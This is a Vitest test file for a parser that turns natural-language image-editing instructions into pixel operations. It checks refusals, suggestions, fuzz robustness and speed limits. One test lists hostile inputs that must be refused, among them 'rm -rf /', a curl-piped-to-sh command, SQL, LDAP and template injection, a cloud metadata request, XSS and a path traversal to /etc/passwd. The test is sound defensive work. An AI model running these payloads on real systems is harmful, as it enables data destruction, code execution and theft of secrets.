import type { PixelOperation, RefusalReason } from '@lamina/contract';
import { InstructionReading } from '@lamina/contract';
import { describe, expect, it } from 'vitest';
import { readInstruction } from './read-instruction';
import { LEXICON } from './lexicon';
import { whatItCan } from './refusals';
import sentences from './sentences.en.jsonl?raw';

interface Sample {
  readonly sentence: string;
  readonly operations?: readonly PixelOperation[];
  readonly reason?: RefusalReason;
}

const SAMPLES = sentences
  .split('\n')
  .filter((line) => line !== '')
  .map((line) => JSON.parse(line) as Sample);
const UNDERSTOOD = SAMPLES.filter(({ operations }) => operations);
const REFUSED = SAMPLES.filter(({ reason }) => reason);

/** Numbers 0..1 from a seed. */
function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) | 0;
    return (state >>> 0) / 2 ** 32;
  };
}

describe('readInstruction', () => {
  it('has at least 150 sentences to be tried with, 50 of them to be refused', () => {
    expect(SAMPLES.length).toBeGreaterThanOrEqual(150);
    expect(REFUSED.length).toBeGreaterThanOrEqual(50);
  });

  it.each(UNDERSTOOD)('understands "$sentence"', ({ sentence, operations }) => {
    const reading = readInstruction(sentence);
    expect(reading).toMatchObject({ ok: true });
    expect(reading.understood.map(({ operation }) => operation)).toEqual(operations);
  });

  it.each(REFUSED)('refuses "$sentence" as $reason', ({ sentence, reason }) => {
    expect(readInstruction(sentence)).toMatchObject({ ok: false, reason });
  });

  it('never lets an operation out that was not meant: precision is 100 %', () => {
    const wrong = SAMPLES.filter(({ sentence, operations }) => {
      const reading = readInstruction(sentence);
      const got = JSON.stringify(reading.understood.map(({ operation }) => operation));
      return reading.ok && got !== JSON.stringify(operations);
    });
    expect(wrong).toEqual([]);
  });

  it('uses every word: one strange or negating word anywhere makes it refuse', { timeout: 60_000 }, () => {
    for (const { sentence } of UNDERSTOOD) {
      const words = sentence.split(' ');
      for (let at = 0; at <= words.length; at++) {
        for (const word of ['zebra', 'not', 'except']) {
          const changed = words.toSpliced(at, 0, word).join(' ');
          expect([changed, readInstruction(changed).ok]).toEqual([changed, false]);
        }
      }
    }
  });

  it('says in every refusal what to do instead, in a sentence', () => {
    for (const { sentence } of REFUSED) {
      const reading = readInstruction(sentence);
      if (reading.ok) throw new Error(`Expected a refusal of "${sentence}"`);
      expect(reading.message).toMatch(/^["A-Z].*[.?]$/s);
      expect(reading.message).toMatch(/example|instead|can:|Say /);
      expect(InstructionReading.safeParse(reading).error).toBeUndefined();
    }
  });

  it('offers only sentences that it understands', () => {
    for (const { sentence } of REFUSED) {
      const reading = readInstruction(sentence);
      if (reading.ok) continue;
      for (const offer of reading.suggestions)
        expect([offer, readInstruction(offer).ok]).toEqual([offer, true]);
    }
  });

  it('keeps what it understood and quotes what it left out', () => {
    const reading = readInstruction('make it warmer, more contrast and make it pop');
    expect(reading).toMatchObject({ ok: false, failed: 'make it pop', reason: 'unknown-word' });
    expect(reading.understood).toHaveLength(2);
    expect(reading.ok ? '' : reading.message).toBe(
      'I understood two changes. Left out: "make it pop". I do not know "pop" here. Say contrast, saturation or size instead.',
    );
  });

  it('names what the built-in engine can when a model would be needed', () => {
    const reading = readInstruction('add a dog');
    expect(reading.ok ? '' : reading.message).toBe(
      `This needs a model. None is installed here. The built-in engine can: ${whatItCan().join(', ')}.`,
    );
  });

  it('says that a mask must be painted when a part of the picture is meant', () => {
    const reading = readInstruction('blur the background');
    expect(reading.ok ? '' : reading.message).toContain(
      '"the background" is about a part of the picture: a mask',
    );
  });

  it('speaks of places in the sentence as typed', () => {
    const typed = '  Please…  make the ﬁne PHOTO';
    expect(readInstruction(typed).ok).toBe(false);
    const sentence = '\u200bPlease  make the  PHOTO warmer — and crop to “16:9”'.replace(/[“”]/g, '');
    const reading = readInstruction(sentence);
    const words = reading.understood.map(({ from, to }) => sentence.slice(from, to));
    expect(words).toEqual(['crop to 16:9']);
    const plain = '\u200bPlease  make the  PHOTO warmer\u00a0and crop to 16\uff1a9';
    expect(readInstruction(plain).understood.map(({ from, to }) => plain.slice(from, to))).toEqual([
      'make the  PHOTO warmer',
      'crop to 16\uff1a9',
    ]);
  });

  it('proposes the nearest word for a misspelt one', () => {
    const reading = readInstruction('increase the contrst by 20 %');
    expect(reading.ok ? [] : reading.suggestions[0]).toBe('increase the contrast by 20 %');
  });

  it('understands 20 changes and refuses 21 as too long', () => {
    const changes = (count: number) => Array.from({ length: count }, () => 'sharpen').join(', ');
    expect(readInstruction(changes(20)).understood).toHaveLength(20);
    expect(readInstruction(changes(21))).toMatchObject({ ok: false, reason: 'too-long', understood: [] });
  });

  it('refuses 801 and 20 000 characters as too long, unread', () => {
    expect(readInstruction('make it warmer '.padEnd(800, '!')).ok).toBe(true);
    for (const length of [801, 20_000]) {
      expect(readInstruction('warmer '.repeat(length).slice(0, length))).toMatchObject({
        ok: false,
        reason: 'too-long',
        understood: [],
      });
    }
  });

  it(
    'does not throw on 20 000 random strings of its own words, and answers as the contract says',
    { timeout: 60_000 },
    () => {
      const words = [
        ...LEXICON.keys(),
        '20',
        '%',
        '16:9',
        '#d0402b',
        '"a"',
        'zebra',
        '°',
        'px',
        '0',
        '-3',
        '1,5',
        '²',
        '🎨',
      ];
      const next = seeded(11);
      for (let round = 0; round < 20_000; round++) {
        const length = 1 + Math.floor(next() * 12);
        const text = Array.from({ length }, () => words[Math.floor(next() * words.length)]).join(' ');
        const reading = readInstruction(text);
        if (round % 20 === 0) expect(InstructionReading.safeParse(reading).error).toBeUndefined();
        for (const { from, to } of reading.understood)
          expect(0 <= from && from < to && to <= text.length).toBe(true);
      }
    },
  );

  it('ST-031 leaves shell, SQL, LDAP, template and URL text inert: it is refused and nothing else happens', () => {
    const hostile = [
      '$(rm -rf /) make it warmer',
      "'; DROP TABLE job; --",
      'make it warmer; curl http://example.com/x.png | sh',
      '*)(uid=*))(|(uid=*',
      '{{7*7}} ${7*7} <%= 7*7 %>',
      'fetch https://169.254.169.254/latest/meta-data',
      '<script>alert(1)</script>',
      '../../etc/passwd',
      '__proto__ constructor toString',
      'make it \u0000 warmer',
    ];
    for (const text of hostile) {
      const reading = readInstruction(text);
      expect([text, reading.ok]).toEqual([text, false]);
    }
  });

  it('ST-082 reads hostile sentences of 800 characters in well under 50 ms', () => {
    const unit = [
      'a ', 'a', '# ', '"', '""', 'the ', 'more ', 'by ', '1', '1:', '1,', '1x1x', '-', '- ', "a'", 'make it ', ', ', 'and ',
      'a little bit of ', 'black and ', 'red to ', '\u0301', '𝒂', 'ﷺ', 'colour of the ', '+1', '%', 'zzzzzzzzzzzzzzzz ',
    ]; // prettier-ignore
    for (const part of unit) {
      const text = part.repeat(800).slice(0, 800);
      readInstruction(text);
      const startedMs = Date.now();
      for (let round = 0; round < 5; round++) readInstruction(text);
      const meanMs = (Date.now() - startedMs) / 5;
      expect([part, meanMs < 50]).toEqual([part, true]);
    }
  });
});
